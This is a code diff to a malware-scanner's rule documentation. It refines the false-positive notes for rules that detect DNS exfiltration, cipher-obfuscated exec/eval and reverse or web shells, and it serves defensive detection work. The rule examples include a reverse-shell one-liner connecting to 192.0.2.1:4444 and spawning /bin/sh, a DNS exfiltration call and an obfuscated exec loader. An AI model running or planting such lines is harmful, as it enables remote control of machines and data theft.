@@ -58,7 +58,8 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     catches:
       'Name resolution (socket.gethostbyname, getaddrinfo, dns.resolver) that can carry data in the queried name (DNS exfiltration); a name built as f"{data}.domain" is reported with the fixed domain as a dynamic-subdomain destination.',
     example: 'socket.gethostbyname(f"{user}.x.example")',
-    falsePositives: 'Resolving a host the user configured.',
+    falsePositives:
+      "Resolving a host the user configured. The machine's own name looked up (socket.gethostbyname(socket.gethostname()), the idiom for its own address) is not reported.",
   },
   {
     id: 'egress-dynamic-attribute',
@@ -311,7 +312,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
       'exec/eval of code made at run time by rewriting a long one-line constant character by character (a substitution table, map(), translate(), ord()/chr() arithmetic, XOR), in the argument or in what a loop appends to the name it passes: a cipher with no standard decoder to undo it. High even in code a user calls (no benign package measured hides code this way); critical in code that runs at install, start-up or import.',
     example: 'exec("".join(KEY[ABC.index(c)] for c in "kirmg(...)"))',
     falsePositives:
-      "Code generators that rewrite a long template per character (none seen on the benign set). A local function counts as the decoder only when its body rewrites characters (ord/chr arithmetic, XOR, translate, a modular shift): a method that sends code to an interpreter and loops over its answer (sage's gap.eval) is not one.",
+      "Code generators that rewrite a long template per character (none seen on the benign set). A local function counts as the decoder only when its body rewrites characters (ord/chr arithmetic, XOR, translate, a modular shift): a method that sends code to an interpreter and loops over its answer (sage's gap.eval) is not one. A readable code template filled in with format() is not cipher text, and the transformation must be in code, not inside a string (powerline).",
   },
   {
     id: 'obfuscated-builtin',
@@ -542,7 +543,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
       'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives; a chat bot (discord, telebot, telegram, aiogram, pyrogram, telethon, Slack) that hands a shell a command line it does not write itself (os.system(cmd), Popen(cmd, shell=True)): the chat is the remote shell; a web handler (flask, bottle, fastapi, tornado, aiohttp, http.server, ...) that hands a shell a command line read from the request (a web shell); a shell handed command lines that come from an HTTP reply (a loop polling its controller).',
     example: 's.connect(("192.0.2.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")',
     falsePositives:
-      "Remote-debugging and terminal-sharing tools; administration bots that run their owner's shell commands (a remote shell by design). A daemon that puts a descriptor opened from a path (os.open(os.devnull), open(log).fileno()) behind its standard streams is not a socket wired to them.",
+      "Remote-debugging and terminal-sharing tools; administration bots that run their owner's shell commands (a remote shell by design). A daemon that puts a descriptor opened from a path (os.open(os.devnull), open(log).fileno()) behind its standard streams is not a socket wired to them, nor is dup2(0, 1) (stdout pointed at the stdin it opened).",
   },
   {
     id: 'keylogger',
